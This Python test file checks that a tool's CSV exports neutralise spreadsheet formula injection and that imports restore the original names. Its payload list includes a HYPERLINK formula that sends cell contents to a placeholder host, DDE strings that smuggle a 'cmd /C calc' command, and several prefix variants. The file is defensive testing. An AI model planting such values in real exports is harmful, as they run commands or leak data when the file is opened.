"""Names that a spreadsheet would run: an export shows them as text, and an import reads them back."""

from __future__ import annotations

import csv
import gzip
import io
from pathlib import Path

import pytest

from allocation.focus.engine.layout import Layout
from allocation.focus.importers.files import opened

pytestmark = pytest.mark.adversary("what is not yours")

FORMULAS = (
    '=HYPERLINK("https://example.com/?"&A1)', "+cmd|' /C calc'!A0", "-2+3+cmd|'/C calc'!A0", "@SUM(A1)", "\t=1+1",
    "\r=1", "＝1+1", "'=1", "''@x",
)  # fmt: skip


@pytest.mark.parametrize("name", FORMULAS)
def test_no_cell_of_an_export_begins_as_a_formula_does(name: str, tmp_path: Path) -> None:
    layout = Layout.of("1.2", {"x_Team"})
    cells = {"ServiceName": name, "x_Team": name, "BilledCost": "-1.5", "EffectiveCost": "-2"}
    text = layout.header() + layout.line(cells) + layout.template(cells).line % () % ()
    for row in list(csv.DictReader(io.StringIO(text, newline="")))[:2]:
        assert (row["ServiceName"][0], row["BilledCost"], row["EffectiveCost"]) == ("'", "-1.5", "-2")
    file = tmp_path / "export.csv.gz"
    file.write_bytes(gzip.compress((layout.header() + layout.line(cells)).encode()))
    with opened(file) as read:
        row_read = dict(zip(read.table.columns, next(iter(read.rows())), strict=True))
    assert (row_read["ServiceName"], row_read["x_Team"], row_read["BilledCost"]) == (name, name, "-1.5")
